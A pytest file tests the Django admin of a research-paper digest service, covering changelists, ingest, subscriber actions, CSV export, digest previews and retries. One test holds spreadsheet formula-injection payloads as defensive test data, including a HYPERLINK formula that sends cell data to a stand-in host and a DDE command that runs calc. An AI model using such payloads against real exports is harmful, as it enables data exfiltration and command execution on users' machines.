import csv
import io
from datetime import date, timedelta

import pytest
from django.contrib.admin.models import LogEntry
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from papers.models import IngestRun, Paper, Topic, UpvoteObservation
from subscriptions.delivery.runs import run_in_process
from subscriptions.models import Digest, DigestItem, Feedback, Subscriber
from subscriptions.tasks import recover_sending
from tests.factories import make_paper, make_subscriber

pytestmark = pytest.mark.django_db

DAY = date(2025, 11, 6)


def changelist(name):
    return reverse(f"admin:{name}_changelist")


def queries_for(admin_client, url):
    with CaptureQueriesContext(connection) as queries:
        response = admin_client.get(url)
    assert response.status_code == 200, url
    return len(queries)


@pytest.mark.parametrize(
    ("name", "grow"),
    [
        ("papers_paper", "papers"),
        ("papers_topic", "topics"),
        ("papers_ingestrun", "runs"),
        ("subscriptions_subscriber", "subscribers"),
        ("subscriptions_digest", "digests"),
        ("subscriptions_feedback", "feedback"),
    ],
)
def test_changelist_queries_do_not_grow_with_rows(admin_client, name, grow):
    faces = Topic.objects.get(slug="face-analysis")

    def add(count):
        for _ in range(count):
            if grow == "papers":
                paper = make_paper(upvotes=3)
                UpvoteObservation.objects.create(paper=paper, upvotes=3, observed_at=timezone.now())
            elif grow == "topics":
                Topic.objects.create(
                    name=f"T{Topic.objects.count()}", slug=f"t{Topic.objects.count()}"
                )
            elif grow == "runs":
                IngestRun.objects.create(location="x", status="succeeded")
            else:
                person = make_subscriber(topics=[faces])
                if grow == "feedback":
                    Feedback.objects.create(subscriber=person, paper=make_paper(), signal=1)
                if grow == "digests":
                    Digest.objects.create(
                        subscriber=person, period="2025-11-06", day=DAY, frequency="daily"
                    )

    add(3)
    few = queries_for(admin_client, changelist(name))
    add(40)
    many = queries_for(admin_client, changelist(name))
    assert many == few, f"{name}: {few} queries for a few rows, {many} for more"


def test_paper_list_shows_growth_topics_and_sources(admin_client, seeded):
    paper = Paper.objects.get(title__startswith="Rep-MTL")
    UpvoteObservation.objects.filter(paper=paper).update(
        observed_at=timezone.now() - timedelta(days=2)
    )
    # What an ingest seeing 10 upvotes now records (growth comes from observations only).
    Paper.objects.filter(pk=paper.pk).update(upvotes=10)
    UpvoteObservation.objects.create(paper=paper, upvotes=10, observed_at=timezone.now())
    html = admin_client.get(changelist("papers_paper") + "?q=Rep-MTL").content.decode()
    assert "+6" in html  # 4 upvotes two days ago, 10 now
    assert "Multi-task learning" in html
    assert ">hf<" in html


def test_a_paper_page_shows_its_history_and_the_digests_that_included_it(admin_client, seeded):
    make_subscriber(email="ada@example.org", topics=[Topic.objects.get(slug="face-analysis")])
    run_in_process(day=DAY, frequency="daily")
    paper = Paper.objects.get(title__startswith="Faceptor")
    UpvoteObservation.objects.create(
        paper=paper, upvotes=1, observed_at=timezone.now() - timedelta(days=1)
    )
    UpvoteObservation.objects.create(paper=paper, upvotes=5, observed_at=timezone.now())
    html = admin_client.get(reverse("admin:papers_paper_change", args=[paper.pk])).content.decode()
    assert "upvotes from 1 to 5" in html
    assert "Digests that included this paper" in html
    assert "ada@example.org" in html


def test_the_retag_action_retags_in_the_background(
    admin_client, seeded, django_capture_on_commit_callbacks
):
    paper = Paper.objects.get(title__startswith="Faceptor")
    paper.topic_tags.all().delete()
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(
            changelist("papers_paper"), {"action": "retag", "_selected_action": [paper.pk]}
        )
    assert paper.topic_tags.filter(topic__slug="face-analysis").exists()


def test_pinning_is_written_to_the_admin_log(admin_client):
    paper = make_paper()
    admin_client.post(changelist("papers_paper"), {"action": "pin", "_selected_action": [paper.pk]})
    paper.refresh_from_db()
    assert paper.pinned
    assert LogEntry.objects.filter(
        object_id=str(paper.pk), change_message__contains="pinned=True"
    ).exists()


def test_ingest_now_queues_an_ingest_and_its_result_shows(
    admin_client, monkeypatch, django_capture_on_commit_callbacks
):
    from tests.conftest import fixture_bytes

    monkeypatch.setattr(
        "papers.ingest.fetch_document", lambda url: fixture_bytes("hf-daily-papers.json")
    )
    url = reverse("admin:papers_ingest_now")
    assert "Queue the ingest" in admin_client.get(url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(url, {"source": "hf", "date": "2025-11-06", "categories": ""})
    assert response.status_code == 302
    run = IngestRun.objects.get()
    assert (run.status, run.created, len(run.skipped)) == ("succeeded", 5, 1)
    listing = admin_client.get(changelist("papers_ingestrun")).content.decode()
    assert "daily_papers?date=2025-11-06" in listing
    detail = admin_client.get(
        reverse("admin:papers_ingestrun_change", args=[run.pk])
    ).content.decode()
    assert "item has no title" in detail


def test_topics_list_paper_and_subscriber_counts(admin_client, seeded):
    make_subscriber(topics=[Topic.objects.get(slug="face-analysis")])
    html = admin_client.get(changelist("papers_topic") + "?q=face").content.decode()
    faces = Topic.objects.get(slug="face-analysis")
    tagged = faces.paper_tags.exclude(origin="removed").count()
    assert f'<td class="field-paper_count">{tagged}</td>' in html
    assert '<td class="field-subscriber_count">1</td>' in html


def test_resending_confirmations_asks_first_and_is_logged(
    admin_client, django_capture_on_commit_callbacks
):
    pending = make_subscriber(status="pending")
    active = make_subscriber(status="active")
    data = {"action": "resend_confirmation", "_selected_action": [pending.pk, active.pk]}
    page = admin_client.post(changelist("subscriptions_subscriber"), data)
    assert "Resend confirmation emails?" in page.content.decode()
    assert mail.outbox == []
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(changelist("subscriptions_subscriber"), {**data, "confirmed": "yes"})
    assert [m.to for m in mail.outbox] == [[pending.email]]
    assert LogEntry.objects.filter(object_id=str(pending.pk)).exists()


def test_suppressed_subscribers_get_no_digest(admin_client, seeded):
    person = make_subscriber(topics=[Topic.objects.get(slug="face-analysis")])
    admin_client.post(
        changelist("subscriptions_subscriber"),
        {"action": "suppress", "_selected_action": [person.pk]},
    )
    person.refresh_from_db()
    assert person.status == Subscriber.Status.SUPPRESSED
    run_in_process(day=DAY, frequency="daily")
    assert mail.outbox == []


def test_export_is_a_streamed_csv(admin_client):
    faces = Topic.objects.get(slug="face-analysis")
    people = [make_subscriber(topics=[faces], keywords=["LoRA", "merging"]) for _ in range(5)]
    response = admin_client.post(
        changelist("subscriptions_subscriber"),
        {"action": "export_csv", "_selected_action": [p.pk for p in people]},
    )
    assert response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["email", "status", "frequency", "topics"]
    assert len(rows) == 6
    assert rows[1][3] == "face-analysis" and rows[1][4] == "LoRA; merging"


def test_export_cells_are_never_formulas(admin_client):
    # What a subscriber can type into the sign-up form's keywords and authors.
    formulas = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ]
    people = [make_subscriber(keywords=[formula], authors=[formula]) for formula in formulas]
    response = admin_client.post(
        changelist("subscriptions_subscriber"),
        {"action": "export_csv", "_selected_action": [p.pk for p in people]},
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{f}" for f in formulas)
    assert rows[1][0].endswith("@example.org")  # ordinary cells as they were


def test_a_subscriber_page_shows_feedback_and_digests(admin_client, seeded):
    from subscriptions.models import Feedback

    person = make_subscriber(
        email="ada@example.org", topics=[Topic.objects.get(slug="face-analysis")]
    )
    Feedback.objects.create(subscriber=person, paper=Paper.objects.first(), signal=1)
    run_in_process(day=DAY, frequency="daily")
    html = admin_client.get(
        reverse("admin:subscriptions_subscriber_change", args=[person.pk])
    ).content.decode()
    assert "more like this" in html
    assert "2025-11-06" in html
    assert "Preview, or send a test" in html


def test_previewing_todays_digest_sends_nothing_and_a_test_goes_to_the_address(
    admin_client, seeded
):
    person = make_subscriber(
        email="ada@example.org", topics=[Topic.objects.get(slug="face-analysis")]
    )
    url = reverse("admin:subscriptions_subscriber_preview", args=[person.pk]) + "?day=2025-11-06"
    page = admin_client.get(url).content.decode()
    assert "Faceptor: A Generalist Model for Face Perception" in page
    assert "FOR YOU" in page  # the text part too
    assert mail.outbox == [] and not Digest.objects.exists()

    admin_client.post(url, {"address": "editor@example.org"})
    [email] = mail.outbox
    assert email.to == ["editor@example.org"]
    assert email.subject.startswith("[TEST] ")
    assert not Digest.objects.exists() and not DigestItem.objects.exists()


def test_a_past_digest_can_be_previewed(admin_client, seeded):
    make_subscriber(topics=[Topic.objects.get(slug="face-analysis")])
    run_in_process(day=DAY, frequency="daily")
    digest = Digest.objects.get()
    page = admin_client.get(reverse("admin:subscriptions_digest_preview", args=[digest.pk]))
    assert "Faceptor: A Generalist Model for Face Perception" in page.content.decode()


def test_the_summary_counts_each_status_and_lists_failures(admin_client, seeded):
    people = [make_subscriber(topics=[Topic.objects.get(slug="face-analysis")]) for _ in range(3)]
    run_in_process(day=DAY, frequency="daily")
    Digest.objects.filter(subscriber=people[0]).update(
        status="failed", error="AnymailAPIError: 550 mailbox full"
    )
    Digest.objects.filter(subscriber=people[1]).update(status="unknown")
    # The third was in doubt too: an ESP event settled it, after it had been resent once.
    Digest.objects.filter(subscriber=people[2]).update(
        settled_by_event=True, resent_at=timezone.now()
    )
    recover_sending()  # the sweep, every minute, counts the recent periods again
    html = admin_client.get(reverse("admin:subscriptions_digest_summary")).content.decode()
    assert "<td>2025-11-06</a></td>" in html or "2025-11-06</a>" in html
    # built, sent, pending, sending, failed, unknown, skipped; in doubt, by events, resent
    cells = [3, 1, 0, 0, 1, 1, 0, 1, 1, 1]
    assert "".join(f"<td>{n}</td>" for n in cells) in html
    assert "550 mailbox full" in html


def test_retrying_failed_digests_sends_them_once_and_never_the_unknown(
    admin_client, seeded, django_capture_on_commit_callbacks
):
    people = [make_subscriber(topics=[Topic.objects.get(slug="face-analysis")]) for _ in range(3)]
    run_in_process(day=DAY, frequency="daily")
    mail.outbox.clear()
    Digest.objects.filter(subscriber=people[0]).update(status="failed", error="boom")
    Digest.objects.filter(subscriber=people[1]).update(status="unknown")
    ids = list(Digest.objects.values_list("pk", flat=True))
    data = {"action": "retry_failed", "_selected_action": ids}
    assert (
        "Retry failed digests?"
        in admin_client.post(changelist("subscriptions_digest"), data).content.decode()
    )
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(changelist("subscriptions_digest"), {**data, "confirmed": "yes"})
    assert [m.to for m in mail.outbox] == [[people[0].email]]
    statuses = dict(Digest.objects.values_list("subscriber_id", "status"))
    assert statuses == {people[0].pk: "sent", people[1].pk: "unknown", people[2].pk: "sent"}


def test_the_admin_is_for_staff_only(client):
    for url in [changelist("papers_paper"), reverse("admin:subscriptions_digest_summary")]:
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_the_local_admin_login_is_refused_without_debug():
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match="DEBUG"):
        call_command("local_admin")
